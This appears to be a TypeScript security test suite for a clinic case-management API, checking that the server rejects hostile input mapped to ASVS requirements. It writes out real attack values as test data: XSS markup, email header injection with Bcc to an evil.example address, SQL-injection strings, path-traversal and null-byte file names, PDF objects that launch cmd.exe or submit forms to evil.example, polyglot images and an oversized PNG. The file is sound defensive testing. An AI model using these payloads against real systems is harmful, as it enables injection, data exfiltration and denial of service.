import { cases } from '../../../shared/features/cases/cases/endpoints.ts';
import { files } from '../../../shared/features/operations/files/endpoints.ts';
import { child, makeCase } from '../../features/cases/cases/samples.ts';
import { uploadUnchecked } from '../../features/operations/files/samples.ts';
import { details } from '../../features/people/profile/samples.ts';
import type { Principal } from '../../support/clinic.ts';
import { gifPolyglot, html, pdf, png, svg } from '../../support/file-samples.ts';
import { bytesAt } from '../../support/files/bytes-at.ts';
import { uploadOwn } from '../../support/own-files.ts';
import { type Attack, type Breach, unless, unlessSilent } from './attack.ts';

const create = (who: Principal, changes: object) =>
  who.send('POST', 'cases', { body: JSON.stringify({ ...child, ...changes }) });

const unlessAll = async (tried: Promise<Breach>[]): Promise<Breach> =>
  (await Promise.all(tried)).find(Boolean) ?? false;

const refuseAll = (who: Principal, changes: object[]) =>
  unlessAll(changes.map(async changed => unless(await create(who, changed), 400)));

/** Matches names in a PDF that make a reader run, open or send something, or that embed a file. */
const activeNames =
  /JavaScript|\/JS|Launch|GoTo[RE]|SubmitForm|ImportData|Rendition|FileAttachment|\/EF|RichMedia|\/AA|\/OPI|\/PS/;

/** Uploads a PDF; the attack fails if it is rejected, or stored without active content. */
async function unlessHarmless(who: Principal, object: string): Promise<Breach> {
  const fileId = await uploadUnchecked(who, 'attachment', pdf(object), 'letter.pdf');
  if ((await who.send('POST', `files/${fileId}/complete`)).status >= 400) return false;
  const { data } = await who.call(files.getFile, { fileId });
  const stored = (await bytesAt(data.url)).toString('latin1');
  const found = activeNames.exec(
    stored.replaceAll(/#([0-9a-f]{2})/gi, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16))),
  );
  return found !== null && `${object} is stored with ${found[0]}`;
}

/** Uploads a file whose content does not match its type; the attack fails if it is rejected. */
async function unlessRefused(who: Principal, bytes: Buffer, name: string): Promise<Breach> {
  const purpose = name.endsWith('.pdf') ? 'attachment' : 'case-photo';
  const fileId = await uploadUnchecked(who, purpose, bytes, name);
  return unless(await who.send('POST', `files/${fileId}/complete`), 400, 413, 415, 422);
}

export const inputAttacks: Attack[] = [
  {
    attack: 'making the API return a script in a name as a web page',
    asvs: ['1.2.1', '3.4.4'],
    run: async ({ clinic }) => {
      const { id } = await makeCase(clinic.admin, { fullName: '<img src=x onerror=alert(1)>' });
      const { headers } = await clinic.admin.send('GET', `cases/${id}`);
      return !headers.get('content-type')?.startsWith('application/json') && 'the answer is no JSON';
    },
  },
  {
    attack: 'adding lines to an email through a name',
    asvs: ['1.3.11'],
    run: ({ clinic }) =>
      refuseAll(
        clinic.admin,
        ['A\r\nBcc: eve@evil.example', 'A\nB', 'A\u2028B', 'A\0B', 'A\x1b[2J'].map(fullName => ({
          fullName,
        })),
      ),
  },
  {
    attack: 'entering a name that consists of invisible characters',
    asvs: ['2.2.1'],
    run: ({ clinic }) =>
      refuseAll(
        clinic.admin,
        ['\u200B', '\u200B\u200C\u200D', '\uFEFF', '\u2060 \u2060', '\u3164', ' \u00A0 '].map(fullName => ({
          fullName,
        })),
      ),
  },
  {
    attack: 'entering a birth date that does not exist, is too old or is in the future',
    asvs: ['2.2.1', '2.2.3'],
    run: ({ clinic }) =>
      refuseAll(
        clinic.admin,
        ['0000-01-01', '2017-02-29', '2017-13-01', '9999-12-31', '20170314', '2017-3-14', '-2017-03-14'].map(
          birthDate => ({ birthDate }),
        ),
      ),
  },
  {
    attack: 'searching with a date at the end of the calendar',
    asvs: ['16.5.2', '2.2.1'],
    run: ({ clinic }) =>
      unlessAll(
        [{ to: '9999-12-31' }, { from: '0000-01-01' }, { from: '9999-12-31', to: '0000-01-01' }].map(
          async range => {
            const { status, text } = await clinic.admin.send('POST', 'audit/search', {
              body: JSON.stringify(range),
            });
            return status >= 500 && `answered ${status} ${text}`;
          },
        ),
      ),
  },
  {
    attack: 'sending an email address that two parsers read as different recipients',
    asvs: ['1.3.11', '2.2.1'],
    run: ({ clinic }) =>
      refuseAll(
        clinic.admin,
        [
          'a@test.example,eve@evil.example',
          'a@test.example\r\nBcc: eve@evil.example',
          '"a@test.example" <eve@evil.example>',
          'a@test.example eve@evil.example',
          'a@@test.example',
        ].map(contactEmail => ({ contactEmail })),
      ),
  },
  {
    attack: 'sending values of a wrong type where text, lists and objects are expected',
    asvs: ['15.3.5', '2.2.1'],
    run: ({ clinic }) =>
      refuseAll(clinic.admin, [
        { fullName: ['A'] },
        { fullName: { toString: 'A' } },
        { tags: 'a' },
        { tags: { length: 1 } },
        { father: [] },
        { photoId: 1 },
      ]),
  },
  {
    attack: 'exceeding limits: long texts, long lists, many combining marks',
    asvs: ['15.2.2', '2.1.3'],
    run: ({ clinic }) =>
      refuseAll(clinic.admin, [
        { fullName: 'a'.repeat(251) },
        { tags: Array.from({ length: 10_000 }, (_, index) => `t${index}`) },
        { fullName: `a${'\u0301'.repeat(1_000)}` },
      ]),
  },
  {
    attack: 'sending a database condition in a search',
    asvs: ['1.2.4'],
    run: async ({ insider }) => {
      const texts = ["' OR '1'='1", 'begins_with(pk, :a)', '#pk = :pk', '*', '%', '\u{10FFFF}'];
      return unlessAll(
        texts.map(async text =>
          unlessSilent((await insider.send('POST', 'cases/search', { body: JSON.stringify({ text }) })).text),
        ),
      );
    },
  },
  {
    attack: 'sending unpaired surrogates',
    asvs: ['1.1.1', '2.2.1'],
    run: ({ clinic }) =>
      refuseAll(clinic.admin, [{ fullName: 'A\uD800B' }, { fullName: '\uDC00' }, { school: 'A\uDC00' }]),
  },
  {
    attack: 'uploading an HTML page or a script as a picture',
    asvs: ['5.2.2', '1.3.4'],
    run: ({ clinic }) =>
      unlessAll([svg, html, gifPolyglot].map(bytes => unlessRefused(clinic.admin, bytes, 'photo.png'))),
  },
  {
    attack: 'uploading a PDF with scripts, links to files, form submission or attachments',
    asvs: ['5.2.2', '1.3.3'],
    run: ({ clinic }) =>
      unlessAll(
        [
          '<< /S /JavaScript /JS (app.alert) >>',
          '<< /S /J#61va#53cript /JS (x) >>',
          '<< /S %comment\n/J#61vaScript /JS (x) >>',
          '<< /S /Launch /F (cmd.exe) >>',
          '<< /S /GoToR /F (other.pdf) >>',
          '<< /S /GoToE /T << >> >>',
          '<< /S /SubmitForm /F (https://evil.example) >>',
          '<< /S /ImportData /F (a.fdf) >>',
          '<< /S /Rendition /JS (x) >>',
          '<< /Type /Annot /Subtype /FileAttachment /FS << /EF << /F 9 0 R >> >> >>',
          '<< /Type /Annot /Subtype /RichMedia >>',
          '<< /AA << /O << /S /Named >> >> >>',
          '<< /Subtype /PS /Length 0 >>\nstream\nendstream',
          '<< /Subtype /Form /OPI << /2.0 << /F (other.tif) >> >> >>',
        ].map(object => unlessHarmless(clinic.admin, object)),
      ),
  },
  {
    attack: 'uploading a file whose name leaves the folder, has two extensions or adds a header',
    asvs: ['5.3.2', '5.4.2'],
    run: ({ clinic }) =>
      unlessAll(
        ['../../a.pdf', '..\\a.pdf', 'a.pdf\r\nX: y', 'a.pdf\0.exe', 'a.pdf.exe', '.pdf/../a'].map(
          async name =>
            unless(
              await clinic.admin.send('POST', 'files', {
                body: JSON.stringify({ purpose: 'attachment', name, type: 'application/pdf', size: 10 }),
              }),
              400,
              415,
              422,
            ),
        ),
      ),
  },
  {
    attack: 'making a browser open a stored file as another type',
    asvs: ['3.4.4', '5.3.1'],
    run: async ({ clinic }) => {
      const fileId = await uploadUnchecked(clinic.admin, 'attachment', pdf(), 'a.pdf');
      await clinic.admin.call(files.completeUpload, { fileId });
      const { data } = await clinic.admin.call(files.getFile, { fileId });
      const { headers } = await fetch(data.url);
      return (
        (!headers.get('content-disposition')?.startsWith('attachment') && 'it opens in the page') ||
        (headers.get('x-content-type-options') !== 'nosniff' && 'a browser may guess what it is')
      );
    },
  },
  {
    attack: 'uploading a picture in countless parts to slow down the server',
    asvs: ['5.2.1', '15.2.2'],
    run: async ({ clinic }) => {
      const dot = await png();
      const empty = Buffer.from('\0\0\0\0IDAT\x35\xaf\x06\x1e', 'latin1');
      const head = 33;
      const parts = Buffer.concat([dot.subarray(0, head), Buffer.alloc(12e6, empty), dot.subarray(head)]);
      return unlessRefused(clinic.admin, parts, 'photo.png');
    },
  },
  {
    attack: 'using one picture both as profile picture and as signature',
    asvs: ['2.2.3', '16.5.2'],
    run: async ({ clinic }) => {
      const picture = await uploadOwn(clinic.admin);
      const body = JSON.stringify({ ...details, picture, signature: picture });
      return unless(await clinic.admin.send('PUT', 'account/profile', { body }), 400);
    },
  },
  {
    attack:
      'using one photo for two children, so that deleting the photo of one child also deletes the other’s',
    asvs: ['2.3.1', '5.3.2'],
    run: async ({ clinic }) => {
      const photoId = await uploadUnchecked(clinic.admin, 'case-photo', await png(), 'a.png');
      await clinic.admin.call(files.completeUpload, { fileId: photoId });
      await clinic.admin.call(cases.createCase, { ...child, photoId });
      return unless(await create(clinic.admin, { photoId }), 400);
    },
  },
];
